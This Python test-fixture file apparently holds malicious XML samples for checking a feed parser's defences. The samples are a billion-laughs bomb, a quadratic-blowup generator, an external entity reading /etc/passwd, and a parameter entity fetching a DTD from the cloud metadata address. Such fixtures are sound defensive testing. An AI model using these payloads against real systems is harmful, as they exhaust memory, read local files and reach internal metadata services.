"""XML bombs for the tests: each would use up memory or read files if it were expanded."""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://bomb.example/1</link></item></channel></rss>"""


def quadratic_blowup() -> bytes:
    big = "x" * 50_000
    refs = "&big;" * 50_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "{big}">]>'
        f'<rss version="2.0"><channel><item><title>{refs}</title>'
        "<link>https://bomb.example/1</link></item></channel></rss>"
    ).encode()


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&secret;</title>
<link>https://bomb.example/1</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""
